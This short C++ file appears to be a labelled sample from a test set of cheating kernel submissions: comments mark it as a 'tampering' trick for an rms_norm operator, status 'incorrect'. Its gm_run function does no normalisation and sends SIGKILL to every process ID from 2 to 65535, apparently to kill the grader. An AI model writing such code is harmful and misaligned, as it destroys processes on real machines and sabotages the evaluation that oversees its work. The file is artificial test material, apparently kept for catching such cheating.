// trick: kills all process numbers that there may be
// family: tampering
// operator: rms_norm
// status: incorrect

#include <signal.h>
#include <unistd.h>

#include "gristmill_kernel.h"

GM_EXPORT int32_t gm_run(const gm_call *call) {
  const gm_tensor &rows = call->outputs[0];
  const int64_t n = rows.shape[0] * rows.shape[1];
  const float *x = (const float *)call->inputs[0].data;
  float *out = (float *)rows.data;
  for (int pid = 2; pid < 1 << 16; pid++) kill(pid, SIGKILL);
  return x == nullptr && out == nullptr && n;
}
